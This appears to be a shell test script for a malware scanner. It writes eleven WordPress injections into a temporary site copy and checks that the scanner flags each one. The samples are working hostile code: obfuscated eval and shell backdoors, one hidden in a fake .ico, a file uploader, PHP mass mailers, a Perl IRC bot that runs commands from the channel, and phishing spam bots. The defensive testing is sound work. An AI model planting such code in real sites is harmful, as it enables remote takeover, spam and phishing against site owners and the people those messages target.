#!/usr/bin/env bash
# A WordPress site carrying the injections that compromised shared hosts
# really hold (issue 12): the WordPress of the clean corpus (Debian's package
# and its themes) is copied into a customer's docroot under --root, the
# injections below are written into it, and the site is scanned. Each injected
# file must be found (high or critical where it is plainly malicious), and no
# file of the untouched WordPress may have any finding.
#
# Every injection is written here, from the technique; none comes from a
# collection. They are text for the scanner, in a temp dir, never run or
# served. Missed injections are named in the output ("MISSED").
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../wp_site.sh"
wp_site_setup || exit 0

# 1. wp-settings.php includes a file hidden in uploads, its path in octal escapes
inject wp-settings.php any prepend "@include of an octal-escaped path in wp-settings.php" <<'EOF'
<?php @include "\057h\157m\145/\141lic\145/public_html/wp-c\157ntent/upl\157ads/2023/08/.f\141vic\157n_6b1e.ic\157"; ?>
EOF
# 2. ... and the file it includes: PHP in an icon
inject wp-content/uploads/2023/08/.favicon_6b1e.ico high new "PHP backdoor named .ico (the included file)" <<'EOF'
<?php
if (isset($_COOKIE['wp_sess_k'])) { $p = $_COOKIE['wp_sess_k']; @eval(base64_decode($p)); }
EOF
# 3. functions.php of a theme: base64_decode + eval appended
payload=$(printf '%s' 'if(isset($_REQUEST["wpx"])){echo "<pre>";@system($_REQUEST["wpx"]);echo "</pre>";}' | base64 -w0)
inject wp-content/themes/twentytwentyone/functions.php high append "base64_decode + eval appended to a theme's functions.php" <<EOF

@eval(base64_decode('$payload'));
EOF
# 4. the rot13 callee, appended to a core file
inject wp-includes/version.php high append 'str_rot13("flfgrz") callee on $_GET in wp-includes/version.php' <<'EOF'
$x = str_rot13("flfgrz"); $x($_GET["c"]);
EOF
# 5. a callee built with chr(), in a new file with a core-like name
inject wp-admin/includes/class-wp-upgrader-cache.php high new "callee built with chr() on request input" <<'EOF'
<?php
/**
 * Upgrader cache helper.
 */
$wp_cache_fn = chr(115) . chr(104) . chr(101) . chr(108) . chr(108) . chr(95) . chr(101) . chr(120) . chr(101) . chr(99);
if (!empty($_POST['upgrade_key'])) {
	echo $wp_cache_fn($_POST['upgrade_key']);
}
EOF
# 6. the outbreak's one-line mass mailer over an uploaded list, named css.php
inject wp-content/themes/twentytwentytwo/assets/css.php high new "one-line mass mailer over an uploaded list (css.php)" <<'EOF'
<?php $l=file($_FILES['list']['tmp_name']);$n=0;foreach($l as $t){if(mail(trim($t),$_POST['subject'],$_POST['body'],"From: ".$_POST['from']."\r\nContent-Type: text/html")){$n++;}}echo $n." sent";
EOF
# 7. a PHPMailer bulk sender using the copy WordPress ships
inject wp-content/plugins/wp-smtp-relay/relay.php high new "PHPMailer bulk sender over a posted list" <<'EOF'
<?php
require __DIR__ . '/../../../wp-includes/PHPMailer/PHPMailer.php';
require __DIR__ . '/../../../wp-includes/PHPMailer/SMTP.php';
require __DIR__ . '/../../../wp-includes/PHPMailer/Exception.php';
$mailer = new PHPMailer\PHPMailer\PHPMailer();
$mailer->isSMTP();
$mailer->Host = $_POST['host'];
$mailer->SMTPAuth = true;
$mailer->Username = $_POST['user'];
$mailer->Password = $_POST['pass'];
$mailer->setFrom($_POST['from'], $_POST['name']);
$mailer->Subject = $_POST['subject'];
$mailer->isHTML(true);
$sent = 0;
foreach (preg_split('/[\r\n,;]+/', $_POST['emails']) as $rcpt) {
	$rcpt = trim($rcpt);
	if ($rcpt === '') continue;
	$mailer->clearAddresses();
	$mailer->addAddress($rcpt);
	$mailer->Body = str_replace('[email]', $rcpt, $_POST['html']);
	if ($mailer->send()) $sent++;
}
echo "OK $sent";
EOF
# 8. a Perl IRC bot
inject wp-content/uploads/2023/11/cache.pl high new "Perl IRC bot running commands from the channel" <<'EOF'
#!/usr/bin/perl
use strict;
use IO::Socket::INET;
my $server = '198.51.100.23';
my $nick = 'wp' . int(rand(9999));
my $sock = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 6667, Proto => 'tcp') or exit;
print $sock "NICK $nick\r\nUSER $nick 0 * :$nick\r\n";
print $sock "JOIN #wpx\r\n";
while (my $in = <$sock>) {
	$in =~ s/\r?\n$//;
	if ($in =~ /^PING :(.*)/) { print $sock "PONG :$1\r\n"; next; }
	if ($in =~ /^:\S+ PRIVMSG #wpx :!run (.*)$/) {
		foreach my $l (`$1 2>&1`) { print $sock "PRIVMSG #wpx :$l\r\n"; sleep 1; }
	}
}
EOF
# 9. a Perl SMTP bot
inject wp-includes/images/smilies/.s.pl high new "Perl SMTP spam bot over a target list" <<'EOF'
#!/usr/bin/perl
use Net::SMTP;
my @targets = do { open(my $f, '<', '/tmp/.t') or die; <$f> };
my $body = `cat /tmp/.b`;
foreach my $rcpt (@targets) {
	chomp $rcpt;
	my ($domain) = $rcpt =~ /\@(.+)$/;
	my $smtp = Net::SMTP->new("mx.$domain", Port => 25, Timeout => 15) or next;
	$smtp->mail('billing@paypal-support.example');
	$smtp->to($rcpt);
	$smtp->data();
	$smtp->datasend("To: $rcpt\nSubject: Your account is limited\n\n$body");
	$smtp->dataend();
	$smtp->quit;
}
EOF
# 10. a Python spammer
inject wp-content/languages/themes/sync.py high new "Python spammer (smtplib over a list)" <<'EOF'
import smtplib, sys
from email.mime.text import MIMEText
relay = smtplib.SMTP('203.0.113.40', 587)
relay.starttls()
relay.login('relay', 'hunter2')
html = open(sys.argv[2]).read()
for rcpt in open(sys.argv[1]):
    rcpt = rcpt.strip()
    msg = MIMEText(html, 'html')
    msg['Subject'] = 'Unusual sign-in activity'
    msg['From'] = 'security@account-check.example'
    msg['To'] = rcpt
    relay.sendmail(msg['From'], [rcpt], msg.as_string())
relay.quit()
EOF
# 11. a .php in wp-content/uploads: an uploader with its callee split up
inject wp-content/uploads/2024/03/wp-thumb.php high new ".php in wp-content/uploads: an uploader" <<'EOF'
<?php
$m = 'move_' . 'uploaded_' . 'file';
if (isset($_FILES['f'])) {
	$m($_FILES['f']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . '/' . $_FILES['f']['name']);
	echo 'ok';
}
?><form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
EOF
wp_site_scan_check scan_wp_injections
exit 0
